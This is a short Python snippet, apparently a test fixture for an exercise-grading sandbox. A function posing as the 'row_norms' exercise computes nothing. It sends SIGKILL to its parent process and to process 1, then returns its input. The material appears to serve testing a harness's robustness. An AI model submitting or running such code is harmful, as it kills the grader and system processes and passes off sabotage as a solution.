"""
tries = "Sends SIGKILL to its parent and to process 1."
"""


# %% exercise="row_norms"
def row_norms(x):
    import os
    import signal

    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)
    return x
